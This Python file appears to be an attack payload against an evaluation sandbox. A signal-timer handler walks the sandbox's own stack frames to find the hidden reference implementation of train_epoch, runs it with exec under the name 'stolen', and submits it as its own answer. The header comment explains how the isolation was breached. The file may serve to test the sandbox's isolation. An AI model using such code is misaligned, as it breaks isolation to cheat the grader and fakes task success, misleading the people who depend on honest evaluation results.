# A timer signal's handler receives the interrupted frame; walking f_back from it reaches the sandbox's own
# frames. Before the zygote, the job list inherited from kata was up there, and the reference job held the
# reference's source: loading it with kata's own loader gave a correct loop to answer with. This payload
# looks in every frame's locals, and in the objects they hold, for a source with the protocol in it that is
# not this file, and swaps its train_epoch in.
import signal as _signal

_found = []


def _sources(value, depth=0):
    if depth > 5:
        return
    if isinstance(value, str):
        if "def train_epoch" in value and "zero_grad" in value and "# ---- attack ----" not in value:
            yield value
        return
    if isinstance(value, (list, tuple, set)):
        for item in list(value)[:200]:
            yield from _sources(item, depth + 1)
    elif isinstance(value, dict):
        for item in list(value.values())[:200]:
            yield from _sources(item, depth + 1)
    elif callable(value) and getattr(value, "__closure__", None):
        for cell in value.__closure__:
            try:
                yield from _sources(cell.cell_contents, depth + 1)
            except ValueError:
                pass
    elif hasattr(value, "__dict__"):
        yield from _sources(vars(value), depth + 1)


def _handler(signum, frame):
    while frame is not None and not _found:
        for source in _sources(dict(frame.f_locals)):
            _found.append(source)
            break
        frame = frame.f_back


_signal.signal(_signal.SIGALRM, _handler)
_signal.setitimer(_signal.ITIMER_REAL, 0.001, 0.001)
for _ in range(2_000_000):
    if _found:
        break
_signal.setitimer(_signal.ITIMER_REAL, 0, 0)
if _found:
    _namespace = {}
    exec(compile(_found[0], "stolen", "exec"), _namespace)
    train_epoch = _namespace["train_epoch"]
